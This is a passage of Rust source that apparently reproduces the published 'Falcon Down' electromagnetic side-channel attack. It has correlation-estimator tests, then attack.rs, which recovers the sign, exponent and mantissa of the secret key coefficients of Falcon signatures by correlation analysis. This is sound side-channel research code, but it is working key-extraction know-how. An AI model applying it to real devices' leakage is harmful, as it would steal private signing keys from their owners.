/// Deterministic splitmix64 stream.
struct Rng(u64);

impl Rng {
    fn next(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9E37_79B9_7F4A_7C15);
        let mut z = self.0;
        z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
        z ^ (z >> 31)
    }
}

fn fuzz_columns(rng: &mut Rng, len: usize) -> (Vec<f64>, Vec<f32>) {
    let h: Vec<f64> = (0..len).map(|_| (rng.next() % 120) as f64 - 10.0).collect();
    // Samples correlated with the hypotheses plus deterministic noise,
    // like real leakage — keeps the final r away from degenerate 0.
    let t: Vec<f32> =
        h.iter().map(|&v| (v + (rng.next() % 64) as f64 / 8.0 - 4.0) as f32).collect();
    (h, t)
}

#[test]
fn split_column_equals_whole_column() {
    // Feeding a column in fragments must equal the one-shot feed: to
    // rounding for the estimator (each fragment runs its own lane fold,
    // so the f64 additions regroup — exact bit-equality is not a
    // property of any split), and **bit-identically** for a repeat of
    // the *same* split — the reproducibility the determinism suite
    // builds on when chunked/streamed feeding (out-of-core datasets,
    // executor chunking) picks a fixed fragmentation.
    let mut rng = Rng(0x5714);
    for &len in &[32usize, 64, 4096] {
        let (h, t) = fuzz_columns(&mut rng, len);
        let mut whole = PearsonSums::default();
        whole.push_column(&h, &t);
        for cut in [1usize, 4, 7, 16, len / 2 + 1, len - 4] {
            let feed = |(ha, ta): (&[f64], &[f32]), (hb, tb): (&[f64], &[f32])| {
                let mut s = PearsonSums::default();
                s.push_column(ha, ta);
                s.push_column(hb, tb);
                s
            };
            let split = feed((&h[..cut], &t[..cut]), (&h[cut..], &t[cut..]));
            assert_eq!(split.len(), whole.len());
            assert!(
                (split.corr() - whole.corr()).abs() < 1e-12,
                "split at {cut} of {len}: {} vs {}",
                split.corr(),
                whole.corr()
            );
            // The same split replayed is bit-identical.
            let replay = feed((&h[..cut], &t[..cut]), (&h[cut..], &t[cut..]));
            assert_eq!(
                split.components().map(f64::to_bits),
                replay.components().map(f64::to_bits),
                "replayed split at {cut} of {len} must be bit-identical"
            );
        }
    }
}

#[test]
fn scalar_push_equals_push_column_to_rounding() {
    let mut rng = Rng(0xACC);
    for &len in &[1usize, 5, 63, 500] {
        let (h, t) = fuzz_columns(&mut rng, len);
        let mut tiled = PearsonSums::default();
        tiled.push_column(&h, &t);
        let mut scalar = PearsonSums::default();
        for (&hv, &tv) in h.iter().zip(&t) {
            scalar.push(hv, tv as f64);
        }
        assert_eq!(tiled.len(), scalar.len());
        assert!((tiled.corr() - scalar.corr()).abs() < 1e-12, "len={len}");
        assert!((tiled.hyp_variance() - scalar.hyp_variance()).abs() < 1e-9, "len={len}");
    }
}

#[test]
fn permutation_invariance_of_final_r() {
    // Pearson is mathematically invariant under any simultaneous
    // permutation of the (h, t) pairs; floating-point summation order
    // moves the result only at rounding level. 1e-12 on r guards
    // against any accidental order-sensitivity beyond rounding (e.g. a
    // pairing bug between the columns).
    let mut rng = Rng(0xBEEF);
    for &len in &[17usize, 256, 1001] {
        let (h, t) = fuzz_columns(&mut rng, len);
        let mut s = PearsonSums::default();
        s.push_column(&h, &t);
        let reference = s.corr();
        for round in 0..4u64 {
            // Deterministic Fisher-Yates.
            let mut idx: Vec<usize> = (0..len).collect();
            for i in (1..len).rev() {
                let j = (rng.next() as usize) % (i + 1);
                idx.swap(i, j);
            }
            let hp: Vec<f64> = idx.iter().map(|&i| h[i]).collect();
            let tp: Vec<f32> = idx.iter().map(|&i| t[i]).collect();
            let mut p = PearsonSums::default();
            p.push_column(&hp, &tp);
            assert!(
                (p.corr() - reference).abs() < 1e-12,
                "permutation {round} of len {len}: {} vs {reference}",
                p.corr()
            );
            // The two-pass estimator must agree with itself permuted
            // and with the one-pass sums on this well-conditioned data.
            assert!((pearson(&hp, &tp) - reference).abs() < 1e-12);
        }
    }
}

/// Offset regression data from the PR 3 cancellation fix: a DC-coupled
/// baseline of 1e7 on every sample, a ×16 signal that survives f32
/// quantisation, and an exactly-representable offset so the
/// offset-removed reference is exact.
fn offset_data() -> (Vec<f64>, Vec<f32>, Vec<f32>) {
    let h: Vec<f64> = (0..2000).map(|i| ((i * 37) % 32) as f64).collect();
    let t: Vec<f32> = h
        .iter()
        .enumerate()
        .map(|(i, &v)| (1.0e7 + 16.0 * v + ((i * 13) % 7) as f64) as f32)
        .collect();
    let t0: Vec<f32> = t.iter().map(|&v| v - 1.0e7).collect();
    (h, t, t0)
}

#[test]
fn welford_vs_two_pass_at_large_offset() {
    // The 1e7-offset case: the two-pass `pearson` and the streaming
    // Welford `pearson_evolution` must agree with the exact
    // offset-removed reference; the one-pass power sums (PearsonSums)
    // visibly cannot — which is exactly why the attack only feeds it
    // near-zero-mean leakage. The suite pins both sides of that
    // contract so a future "optimisation" cannot silently swap
    // estimators across regimes.
    let (h, t, t0) = offset_data();
    let reference = pearson(&h, &t0);
    assert!(reference > 0.99, "planted signal must dominate: {reference}");
    assert!((pearson(&h, &t) - reference).abs() < 1e-12, "two-pass lost the offset war");
    let evo = pearson_evolution(&h, &t);
    assert!((evo.last().unwrap() - reference).abs() < 1e-9, "Welford lost the offset war");
    let mut sums = PearsonSums::default();
    sums.push_column(&h, &t);
    assert!(
        (sums.corr() - reference).abs() > 1e-8,
        "one-pass sums unexpectedly survived the 1e7 offset — if this regime became exact, \
         revisit the estimator-selection notes in cpa.rs"
    );
}

#[test]
fn evolution_prefix_matches_batch() {
    // Every prefix of the Welford evolution equals the two-pass
    // estimator over that prefix (to accumulation rounding) — the
    // evolution plot is a sliding version of the same statistic, not a
    // different one.
    let mut rng = Rng(0xE70);
    let (h, t) = fuzz_columns(&mut rng, 300);
    let evo = pearson_evolution(&h, &t);
    for &cut in &[2usize, 17, 150, 300] {
        let direct = pearson(&h[..cut], &t[..cut]);
        assert!((evo[cut - 1] - direct).abs() < 1e-9, "prefix {cut}: {} vs {direct}", evo[cut - 1]);
    }
}
