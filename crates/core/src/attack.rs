//! The *Falcon Down* differential EM attack.
//!
//! Divide-and-conquer recovery of each `FFT(f)` coefficient (paper
//! §III.B–C): the sign, exponent and mantissa are recovered separately
//! and reassembled. The mantissa halves use the **extend-and-prune**
//! strategy: candidate guesses are scored by correlating against the
//! schoolbook *multiplication* partial products (extend — which by itself
//! produces shift-related false positives), then re-ranked against the
//! intermediate *additions*, whose alignment-sensitive carries eliminate
//! the false positives (prune).
//!
//! Two modes are provided:
//!
//! * [`recover_coefficient`] — incremental extend-and-prune: the secret
//!   halves are grown LSB-first in `step_bits` windows under a beam,
//!   exact full recovery with tractable compute (the low `m` bits of a
//!   product depend only on the low `m` bits of each factor);
//! * [`monolithic_correlations`] — the paper's one-shot enumeration of a
//!   whole window (up to the full 2^25/2^27 guess space) producing the
//!   correlation matrices behind Figure 4.

use crate::cpa::{CorrMatrix, PearsonSums, SampleSums};
use crate::error::Result;
use crate::exec;
use crate::model::{
    assemble_coefficient, hyp_add_hi, hyp_add_lo, hyp_exponent_with_carry, hyp_partial_product,
    hyp_sign, KnownOperand, SecretHalf,
};
use crate::obs;
use crate::source::{ColumnSource, TargetBlock};
use falcon_emsim::StepKind;
use std::sync::{Arc, OnceLock};

/// Fetches one target's column set from a source, panicking on source
/// failure. The resident [`Dataset`](crate::Dataset) implementation is
/// infallible for in-range targets, so the historical non-`Result`
/// attack API stays panic-free there; streamed sources can genuinely
/// fail (I/O), and callers that must handle that use
/// [`try_recover_coefficient`] / [`try_coefficient_confidence`].
fn fetch_block<S: ColumnSource + ?Sized>(src: &S, target: usize) -> TargetBlock<'_> {
    src.target_block(target)
        .unwrap_or_else(|e| panic!("column source failed for target {target}: {e}"))
}

/// Metric handles for the attack hot paths, resolved once. The counters
/// take *bulk* adds at stage granularity (one add per beam level, not
/// per scored candidate) so the instrumentation cost stays invisible
/// next to the Pearson arithmetic it accounts for. (Fan-out accounting
/// lives with the shared executor: see the `exec.*` metrics.)
struct AttackMetrics {
    /// Full Pearson correlations evaluated (one per scored candidate).
    correlations: Arc<obs::Counter>,
    /// Candidate-set size per extend/prune stage.
    candidates: Arc<obs::Histogram>,
}

fn attack_metrics() -> &'static AttackMetrics {
    static M: OnceLock<AttackMetrics> = OnceLock::new();
    M.get_or_init(|| AttackMetrics {
        correlations: obs::counter("attack.correlations"),
        candidates: obs::metrics().histogram(
            "attack.candidate_set_size",
            &[16.0, 64.0, 256.0, 1024.0, 4096.0, 16384.0, 65536.0, 262144.0],
        ),
    })
}

/// Tuning knobs for the mantissa recovery.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct AttackConfig {
    /// Bits added per extend level.
    pub step_bits: u32,
    /// Candidates kept after each level.
    pub beam_width: usize,
    /// When non-zero, the mantissa halves are recovered by the paper's
    /// **monolithic** one-shot enumeration — all 2^25 / 2^27 guesses
    /// scored in cache-sized blocks — instead of the incremental beam,
    /// keeping this many top extend candidates for the prune re-rank.
    /// `0` (the default) selects incremental extend-and-prune. Flows
    /// through [`CampaignConfig`](crate::CampaignConfig) unchanged, so a
    /// campaign *is* the paper's full-scale attack when this is set.
    pub monolithic_keep: usize,
}

impl Default for AttackConfig {
    fn default() -> Self {
        AttackConfig { step_bits: 8, beam_width: 64, monolithic_keep: 0 }
    }
}

/// Outcome of recovering one component, with its distinguishing margin.
#[derive(Debug, Clone, Copy, PartialEq)]
pub struct ComponentResult {
    /// The winning guess value.
    pub value: u64,
    /// Correlation of the winner.
    pub corr: f64,
    /// Correlation of the runner-up (distinguishing margin diagnostics).
    pub runner_up: f64,
}

/// Full recovery result for one secret `FFT(f)` value.
#[derive(Debug, Clone, Copy, PartialEq)]
pub struct CoefficientResult {
    /// Reassembled 64-bit coefficient.
    pub bits: u64,
    /// Sign recovery details.
    pub sign: ComponentResult,
    /// Exponent recovery details.
    pub exponent: ComponentResult,
    /// Low mantissa half (25 bits).
    pub mant_lo: ComponentResult,
    /// High mantissa half (28 bits, implicit one included).
    pub mant_hi: ComponentResult,
}

/// The per-trace data needed to score mantissa hypotheses for one
/// target: known operands and the relevant sample columns, the latter
/// **borrowed** straight from the columnar dataset (zero copies on the
/// hot path — one `TargetColumns` is built per mantissa-half recovery
/// and then read by every scored candidate).
struct TargetColumns<'a> {
    /// `(known, sample)` pairs for each product column in use.
    cols: Vec<(Vec<u32>, &'a [f32])>,
    /// Full known operands per occurrence, for exact models.
    knowns: [Vec<KnownOperand>; 2],
    /// Prune-step sample column per occurrence.
    prune: [&'a [f32]; 2],
    /// Top-word accumulation column (`AddHiHi`) per occurrence, the
    /// cross-half prune column.
    extra_prune: [&'a [f32]; 2],
}

fn product_columns<'a>(block: &'a TargetBlock<'a>, half: SecretHalf) -> TargetColumns<'a> {
    let (step_with_lo, step_with_hi, prune_step) = match half {
        SecretHalf::Low => (StepKind::PpLoLo, StepKind::PpLoHi, StepKind::AddLoHi),
        SecretHalf::High => (StepKind::PpHiLo, StepKind::PpHiHi, StepKind::AddHiHi),
    };
    let knowns: [Vec<KnownOperand>; 2] =
        [0, 1].map(|occ| block.known_column(occ).iter().map(|&kb| KnownOperand::new(kb)).collect());
    let mut cols = Vec::with_capacity(4);
    for (occ, kcol) in knowns.iter().enumerate() {
        cols.push((kcol.iter().map(|k| k.lo).collect(), block.sample_column(occ, step_with_lo)));
        cols.push((kcol.iter().map(|k| k.hi).collect(), block.sample_column(occ, step_with_hi)));
    }
    TargetColumns {
        cols,
        knowns,
        prune: [0, 1].map(|occ| block.sample_column(occ, prune_step)),
        extra_prune: [0, 1].map(|occ| block.sample_column(occ, StepKind::AddHiHi)),
    }
}

/// Precomputed candidate-independent sample sums of the prune columns,
/// shared by every candidate in a prune re-rank.
struct PruneSums {
    prune: [SampleSums; 2],
    extra: [SampleSums; 2],
}

impl TargetColumns<'_> {
    /// Sample-side sums of every product column, truncated to
    /// `max_points`, for one extend level: the sample statistics are
    /// candidate-independent, so each beam level accumulates them once
    /// here instead of once per scored candidate.
    fn extend_sums(&self, max_points: usize) -> Vec<SampleSums> {
        self.cols
            .iter()
            .map(|(kn, samples)| SampleSums::new(&samples[..kn.len().min(max_points)]))
            .collect()
    }

    /// Sample-side sums of the prune and cross-half columns.
    fn prune_sums(&self) -> PruneSums {
        PruneSums {
            prune: [0, 1].map(|occ| SampleSums::new(self.prune[occ])),
            extra: [0, 1].map(|occ| SampleSums::new(self.extra_prune[occ])),
        }
    }

    /// Correlation of the partial-product model for `cand` (low `m_bits`
    /// of the secret half) across all product columns, together with the
    /// hypothesis variance (a candidate with near-constant hypotheses is
    /// statistically handicapped in the correlation ranking, not
    /// refuted). `scratch` is the caller's reusable hypothesis buffer —
    /// its prior contents are irrelevant; `sums` must come from
    /// [`extend_sums`](TargetColumns::extend_sums) at the same
    /// `max_points`.
    fn extend_score(
        &self,
        scratch: &mut Vec<f64>,
        cand: u64,
        m_bits: u32,
        full_width: u32,
        max_points: usize,
        sums: &[SampleSums],
    ) -> (f64, f64) {
        // Pearson over the concatenation of all columns, capped at
        // `max_points` per column (intermediate beam levels only need
        // enough statistics to keep the truth alive; the final level and
        // the prune always use the full campaign).
        let mut acc = PearsonSums::default();
        for ((kn, samples), ss) in self.cols.iter().zip(sums) {
            let take = kn.len().min(max_points);
            scratch.clear();
            scratch.extend(
                kn[..take].iter().map(|&k| hyp_partial_product(cand, m_bits, k, full_width)),
            );
            acc.push_column_reusing(scratch, &samples[..take], ss);
        }
        (acc.corr(), acc.hyp_variance())
    }

    /// Correlation of the exact addition (prune) model. For the low half
    /// with a recovered high half available, the top-word accumulation
    /// (`AddHiHi`) joins the score: it mixes both halves and remains
    /// informative even for the degenerate all-zero low half, whose own
    /// partial products are constants.
    fn prune_score(
        &self,
        scratch: &mut Vec<f64>,
        half: SecretHalf,
        cand: u64,
        other_half: Option<u64>,
        sums: &PruneSums,
    ) -> f64 {
        let mut acc = PearsonSums::default();
        for (occ, kn) in self.knowns.iter().enumerate() {
            match half {
                SecretHalf::Low => {
                    scratch.clear();
                    scratch.extend(kn.iter().map(|k| hyp_add_lo(cand, k)));
                    acc.push_column_reusing(scratch, self.prune[occ], &sums.prune[occ]);
                    if let Some(c_hi) = other_half {
                        scratch.clear();
                        scratch.extend(kn.iter().map(|k| hyp_add_hi(c_hi, cand, k)));
                        acc.push_column_reusing(scratch, self.extra_prune[occ], &sums.extra[occ]);
                    }
                }
                SecretHalf::High => {
                    scratch.clear();
                    scratch.extend(kn.iter().map(|k| hyp_add_hi(cand, other_half.unwrap_or(0), k)));
                    acc.push_column_reusing(scratch, self.prune[occ], &sums.prune[occ]);
                }
            }
        }
        acc.corr()
    }
}

fn top_two(scored: &[(u64, f64)]) -> ComponentResult {
    let mut best = (0u64, f64::NEG_INFINITY);
    let mut second = f64::NEG_INFINITY;
    for &(v, c) in scored {
        if c > best.1 {
            second = best.1;
            best = (v, c);
        } else if c > second {
            second = c;
        }
    }
    ComponentResult { value: best.0, corr: best.1, runner_up: second }
}

/// Recovers one mantissa half by incremental extend-and-prune.
///
/// Generic over [`ColumnSource`]: the resident
/// [`Dataset`](crate::Dataset) and the out-of-core
/// [`StreamedDataset`](crate::stream::StreamedDataset) score
/// identically (the kernels consume whole columns in a fixed order).
/// Panics if the source fails to produce the target's columns; see
/// [`fetch_block`].
pub fn recover_mantissa_half<S: ColumnSource + ?Sized>(
    src: &S,
    target: usize,
    half: SecretHalf,
    other_half: Option<u64>,
    cfg: &AttackConfig,
) -> ComponentResult {
    recover_mantissa_half_block(&fetch_block(src, target), half, other_half, cfg)
}

/// Block-level core of [`recover_mantissa_half`]: scores against an
/// already-fetched column set, so multi-component recoveries fetch a
/// streamed target once instead of once per component.
pub fn recover_mantissa_half_block(
    block: &TargetBlock<'_>,
    half: SecretHalf,
    other_half: Option<u64>,
    cfg: &AttackConfig,
) -> ComponentResult {
    let _span = obs::span(match half {
        SecretHalf::Low => "attack.mant_lo",
        SecretHalf::High => "attack.mant_hi",
    });
    let m = attack_metrics();
    let full_width = match half {
        SecretHalf::Low => 25,
        SecretHalf::High => 28,
    };
    let tc = product_columns(block, half);
    let mut beam: Vec<u64> = vec![0];
    let mut m_bits = 0u32;
    while m_bits < full_width {
        let next = (m_bits + cfg.step_bits).min(full_width);
        let ext = next - m_bits;
        let mut cands: Vec<u64> = Vec::with_capacity(beam.len() << ext);
        for &b in &beam {
            for e in 0u64..(1 << ext) {
                cands.push(b | (e << m_bits));
            }
        }
        if next == full_width && half == SecretHalf::High {
            // The implicit leading one pins bit 27.
            cands.retain(|c| c >> 27 == 1);
        }
        // Intermediate levels subsample the campaign; the final level is
        // scored on everything.
        let max_points = if next == full_width { usize::MAX } else { 4000 };
        m.candidates.record(cands.len() as f64);
        m.correlations.add(cands.len() as u64);
        // Sample-side sums once per level, not once per candidate.
        let col_sums = tc.extend_sums(max_points);
        let scores = exec::map_with(&cands, Vec::new, |scratch, &c| {
            tc.extend_score(scratch, c, next, full_width, max_points, &col_sums)
        });
        // Correlation handicaps candidates with low hypothesis variance
        // (prefixes with trailing zero bits modulate few product bits; an
        // all-zero prefix is entirely constant and unfalsifiable). Keep
        // them alive alongside the correlation ranking rather than let a
        // shift-family impostor evict the truth.
        let mut hvars: Vec<f64> = scores.iter().map(|&(_, v)| v).collect();
        hvars.sort_by(f64::total_cmp);
        let median_hvar = hvars[hvars.len() / 2];
        let mut scored: Vec<(u64, f64, f64)> =
            cands.into_iter().zip(scores).map(|(c, (r, v))| (c, r, v)).collect();
        scored.sort_by(|a, b| b.1.partial_cmp(&a.1).unwrap_or(core::cmp::Ordering::Equal));
        let keep = cfg.beam_width.max(1);
        // Most-handicapped first: a zero-variance candidate (the all-zero
        // prefix) is entirely unfalsifiable and must always survive.
        let mut handicapped: Vec<(u64, f64)> = scored
            .iter()
            .skip(keep)
            .filter(|&&(_, _, v)| v < 0.5 * median_hvar)
            .map(|&(c, _, v)| (c, v))
            .collect();
        handicapped.sort_by(|a, b| a.1.total_cmp(&b.1));
        let mut protected: Vec<u64> = handicapped.into_iter().map(|(c, _)| c).take(keep).collect();
        scored.truncate(keep);
        beam = scored.into_iter().map(|(v, _, _)| v).collect();
        beam.append(&mut protected);
        m_bits = next;
    }
    let final_set = shift_family_closure(&beam, full_width, half);

    // Prune phase: re-rank the candidates against the intermediate
    // addition.
    m.candidates.record(final_set.len() as f64);
    m.correlations.add(final_set.len() as u64);
    let psums = tc.prune_sums();
    let scores = exec::map_with(&final_set, Vec::new, |scratch, &c| {
        tc.prune_score(scratch, half, c, other_half, &psums)
    });
    let scored: Vec<(u64, f64)> = final_set.into_iter().zip(scores).collect();
    top_two(&scored)
}

/// The multiplication cannot separate shift families at all: for even
/// `d`, `HW(d·B) = HW((d/2)·B)` exactly, so the extend phase pins down
/// an equivalence class rather than a value (the paper's false
/// positives). Close the class explicitly — add every in-range shift of
/// each survivor — and let the addition decide.
fn shift_family_closure(beam: &[u64], full_width: u32, half: SecretHalf) -> Vec<u64> {
    let mask = (1u64 << full_width) - 1;
    let mut final_set = beam.to_vec();
    for &c in beam {
        for k in 1..full_width {
            final_set.push(c >> k);
            let up = (c << k) & mask;
            if up >> k == c {
                final_set.push(up);
            }
        }
    }
    if half == SecretHalf::High {
        final_set.retain(|c| c >> 27 == 1);
        if final_set.is_empty() {
            final_set = beam.to_vec();
        }
    }
    final_set.sort_unstable();
    final_set.dedup();
    final_set
}

/// The paper's **monolithic** recovery of one mantissa half: a one-shot
/// enumeration of all `2^width` guesses of the half's low window (`rest`
/// supplies the high bits when a narrower window is attacked; `rest = 0`
/// with the full 25/28-bit width is the paper's 2^25/2^27 headline
/// mode), extend-scored in cache-sized blocks, then prune re-ranked.
///
/// Blocking serves the memory hierarchy: within one block the borrowed
/// sample columns stay cache-hot while thousands of hypothesis columns
/// stream past them, and the candidate-independent Σt/Σt² lanes are
/// accumulated once per call rather than once per guess. Blocks are
/// scored through the deterministic executor and merged by a total
/// order (`corr` desc, guess asc), so the result is bit-reproducible
/// across thread counts and SIMD kernels like every other attack path.
///
/// `keep` bounds the survivors handed to the prune step (their shift
/// families are closed first, exactly like the incremental path).
pub fn recover_mantissa_half_monolithic<S: ColumnSource + ?Sized>(
    src: &S,
    target: usize,
    half: SecretHalf,
    other_half: Option<u64>,
    width: u32,
    rest: u64,
    keep: usize,
) -> ComponentResult {
    recover_mantissa_half_monolithic_block(
        &fetch_block(src, target),
        half,
        other_half,
        width,
        rest,
        keep,
    )
}

/// Block-level core of [`recover_mantissa_half_monolithic`].
pub fn recover_mantissa_half_monolithic_block(
    block: &TargetBlock<'_>,
    half: SecretHalf,
    other_half: Option<u64>,
    width: u32,
    rest: u64,
    keep: usize,
) -> ComponentResult {
    let _span = obs::span("attack.monolithic");
    let m = attack_metrics();
    let full_width = match half {
        SecretHalf::Low => 25,
        SecretHalf::High => 28,
    };
    let keep = keep.max(1);
    let tc = product_columns(block, half);
    // Monolithic scoring always uses the whole campaign: one shot is the
    // point.
    let col_sums = tc.extend_sums(usize::MAX);
    const BLOCK: u64 = 4096;
    let total = 1u64 << width;
    let blocks: Vec<u64> = (0..total.div_ceil(BLOCK)).collect();
    m.candidates.record(total as f64);
    m.correlations.add(total);
    let block_tops = exec::map_with(&blocks, Vec::new, |scratch: &mut Vec<f64>, &blk| {
        let (start, end) = (blk * BLOCK, (blk * BLOCK + BLOCK).min(total));
        let mut top: Vec<(u64, f64)> = Vec::with_capacity(2 * keep + 1);
        for g in start..end {
            let cand = (rest << width) | g;
            if half == SecretHalf::High && width == full_width && cand >> 27 != 1 {
                // The implicit leading one pins bit 27.
                continue;
            }
            let (r, _) =
                tc.extend_score(scratch, cand, full_width, full_width, usize::MAX, &col_sums);
            top.push((cand, r));
            if top.len() == 2 * keep {
                // Keep the block's running top-`keep` under a total
                // order; anything truncated here can never re-enter the
                // global top-`keep`.
                top.sort_by(|a, b| b.1.total_cmp(&a.1).then(a.0.cmp(&b.0)));
                top.truncate(keep);
            }
        }
        top.sort_by(|a, b| b.1.total_cmp(&a.1).then(a.0.cmp(&b.0)));
        top.truncate(keep);
        top
    });
    let mut merged: Vec<(u64, f64)> = block_tops.into_iter().flatten().collect();
    merged.sort_by(|a, b| b.1.total_cmp(&a.1).then(a.0.cmp(&b.0)));
    merged.truncate(keep);
    let mut survivors: Vec<u64> = merged.into_iter().map(|(c, _)| c).collect();
    // The all-zero window predicts constant products — unfalsifiable by
    // the extend score (correlation 0), decidable only by the prune
    // addition. Keep it alive explicitly, like the incremental beam's
    // low-variance protection does.
    let zero_cand = rest << width;
    let zero_plausible = half != SecretHalf::High || width != full_width;
    if zero_plausible && !survivors.contains(&zero_cand) {
        survivors.push(zero_cand);
    }
    let final_set = shift_family_closure(&survivors, full_width, half);
    m.candidates.record(final_set.len() as f64);
    m.correlations.add(final_set.len() as u64);
    let psums = tc.prune_sums();
    let scores = exec::map_with(&final_set, Vec::new, |scratch, &c| {
        tc.prune_score(scratch, half, c, other_half, &psums)
    });
    let scored: Vec<(u64, f64)> = final_set.into_iter().zip(scores).collect();
    top_two(&scored)
}

/// Recovers the sign bit by correlating the XOR step.
pub fn recover_sign<S: ColumnSource + ?Sized>(src: &S, target: usize) -> ComponentResult {
    recover_sign_block(&fetch_block(src, target))
}

/// Block-level core of [`recover_sign`].
pub fn recover_sign_block(block: &TargetBlock<'_>) -> ComponentResult {
    attack_metrics().correlations.add(2);
    let mut scratch: Vec<f64> = Vec::with_capacity(block.traces());
    let mut scored = Vec::with_capacity(2);
    for guess in 0u32..2 {
        let mut sums = PearsonSums::default();
        for occ in 0..2 {
            let knowns = block.known_column(occ);
            scratch.clear();
            scratch.extend(knowns.iter().map(|&kb| hyp_sign(guess, &KnownOperand::new(kb))));
            sums.push_column(&scratch, block.sample_column(occ, StepKind::SignXor));
        }
        scored.push((guess as u64, sums.corr()));
    }
    // The correct sign yields the positive correlation (the wrong one is
    // its mirror image), as the paper observes for Figure 4(e).
    top_two(&scored)
}

/// Jointly recovers the sign bit and the 11-bit biased exponent field
/// given fully recovered mantissa halves.
///
/// A pure CPA on the exponent-addition word alone can alias: two
/// exponent guesses whose predicted words differ only in bits above the
/// known operand's (narrow) exponent spread produce hypothesis series
/// that differ by a constant, to which Pearson correlation is blind.
/// Scoring the candidates against the operand-fetch word as well — where
/// every secret bit is XOR-combined with *varying* known bits — breaks
/// the tie exactly, so the joint recovery scores each `(sign, exponent)`
/// pair with the exact micro-op models of the `OperandLoad`,
/// `ExponentAdd` and `SignXor` steps together.
pub fn recover_sign_exponent<S: ColumnSource + ?Sized>(
    src: &S,
    target: usize,
    c_hi: u64,
    d_lo: u64,
) -> (ComponentResult, ComponentResult) {
    recover_sign_exponent_block(&fetch_block(src, target), c_hi, d_lo)
}

/// Block-level core of [`recover_sign_exponent`].
pub fn recover_sign_exponent_block(
    block: &TargetBlock<'_>,
    c_hi: u64,
    d_lo: u64,
) -> (ComponentResult, ComponentResult) {
    let _span = obs::span("attack.sign_exp");
    attack_metrics().correlations.add(2 * 2046);
    let mantissa = ((c_hi & 0x7FF_FFFF) << 25) | d_lo;
    // Per-(trace, occurrence) precomputation of everything that does not
    // depend on the (sign, exponent) guess — struct-of-arrays, so the
    // per-candidate scoring runs `push_column` tiles over contiguous
    // hypothesis and sample series.
    let pre_len = 2 * block.traces();
    let mut load_low_hw: Vec<u32> = Vec::with_capacity(pre_len);
    let mut rot_top: Vec<u32> = Vec::with_capacity(pre_len);
    let mut exp_base: Vec<i32> = Vec::with_capacity(pre_len);
    let mut k_sign: Vec<u32> = Vec::with_capacity(pre_len);
    let mut s_load: Vec<f32> = Vec::with_capacity(pre_len);
    let mut s_exp: Vec<f32> = Vec::with_capacity(pre_len);
    let mut s_sign: Vec<f32> = Vec::with_capacity(pre_len);
    for occ in 0..2 {
        s_load.extend_from_slice(block.sample_column(occ, StepKind::OperandLoad));
        s_exp.extend_from_slice(block.sample_column(occ, StepKind::ExponentAdd));
        s_sign.extend_from_slice(block.sample_column(occ, StepKind::SignXor));
        for &kb in block.known_column(occ) {
            let k = KnownOperand::new(kb);
            let rot = kb.rotate_left(32);
            let mant_mask = (1u64 << 52) - 1;
            // Carry from the exactly-known mantissa pipeline.
            let words = crate::model::step_words(
                crate::model::assemble_coefficient(0, 1023, c_hi, d_lo),
                &k,
            );
            let zu = words[StepKind::StickyFold as usize];
            let carry = (zu >> 55) as i32;
            load_low_hw.push(((mantissa ^ rot) & mant_mask).count_ones());
            rot_top.push((rot >> 52) as u32);
            exp_base.push(k.exp as i32 - 2100 + carry);
            k_sign.push(k.sign);
        }
    }
    let cands: Vec<(u32, u32)> =
        (0u32..2).flat_map(|sign| (1u32..2047).map(move |ef| (sign, ef))).collect();
    // The three sample columns are shared by all 2×2046 candidates:
    // accumulate their Σt/Σt² lanes once.
    let (load_sums, exp_sums, sign_sums) =
        (SampleSums::new(&s_load), SampleSums::new(&s_exp), SampleSums::new(&s_sign));
    let scores = exec::map_with(&cands, Vec::new, |scratch: &mut Vec<f64>, &(sign, ef)| {
        let top = (sign << 11) | ef;
        let mut sums = PearsonSums::default();
        scratch.clear();
        scratch.extend(
            load_low_hw
                .iter()
                .zip(&rot_top)
                .map(|(&lhw, &rt)| (lhw + (top ^ rt).count_ones()) as f64),
        );
        sums.push_column_reusing(scratch, &s_load, &load_sums);
        scratch.clear();
        scratch.extend(exp_base.iter().map(|&eb| ((eb + ef as i32) as u32).count_ones() as f64));
        sums.push_column_reusing(scratch, &s_exp, &exp_sums);
        scratch.clear();
        scratch.extend(k_sign.iter().map(|&ks| (sign ^ ks) as f64));
        sums.push_column_reusing(scratch, &s_sign, &sign_sums);
        sums.corr()
    });
    let scored: Vec<(u64, f64)> = cands
        .into_iter()
        .zip(scores)
        .map(|((sign, ef), c)| (crate::model::assemble_coefficient(sign, ef, c_hi, d_lo), c))
        .collect();
    let best = top_two(&scored);
    let bits = best.value;
    let sign = ComponentResult { value: bits >> 63, ..best };
    let exponent = ComponentResult { value: (bits >> 52) & 0x7FF, ..best };
    (sign, exponent)
}

/// Attacker-side confidence in an assembled coefficient: the Pearson
/// correlation of the exact all-steps model against every recorded
/// sample of the coefficient's two multiplications. Correct recoveries
/// score near the channel's SNR ceiling; a wrong mantissa or exponent
/// drags the score down measurably.
pub fn coefficient_confidence<S: ColumnSource + ?Sized>(src: &S, target: usize, bits: u64) -> f64 {
    coefficient_confidence_block(&fetch_block(src, target), bits)
}

/// Fallible variant of [`coefficient_confidence`] for streamed sources,
/// where fetching the columns can fail with I/O errors.
///
/// # Errors
///
/// Propagates the source's [`target_block`](ColumnSource::target_block)
/// failure.
pub fn try_coefficient_confidence<S: ColumnSource + ?Sized>(
    src: &S,
    target: usize,
    bits: u64,
) -> Result<f64> {
    Ok(coefficient_confidence_block(&src.target_block(target)?, bits))
}

/// Block-level core of [`coefficient_confidence`].
pub fn coefficient_confidence_block(block: &TargetBlock<'_>, bits: u64) -> f64 {
    attack_metrics().correlations.incr();
    let traces = block.traces();
    let mut sums = PearsonSums::default();
    // One flat hypothesis scratch keyed [step][trace]: `step_words` runs
    // once per trace, its Hamming weights are scattered into per-step
    // rows, and each row correlates as a contiguous tile against the
    // borrowed sample column. No per-invocation `Vec<Vec<_>>`.
    let mut hw = vec![0f64; StepKind::COUNT * traces];
    for occ in 0..2 {
        for (i, &kb) in block.known_column(occ).iter().enumerate() {
            let words = crate::model::step_words(bits, &KnownOperand::new(kb));
            for (s, &w) in words.iter().enumerate() {
                hw[s * traces + i] = w.count_ones() as f64;
            }
        }
        for (s, &step) in StepKind::ALL.iter().enumerate() {
            sums.push_column(&hw[s * traces..(s + 1) * traces], block.sample_column(occ, step));
        }
    }
    sums.corr()
}

/// Recovers the 11-bit biased exponent field, using the recovered
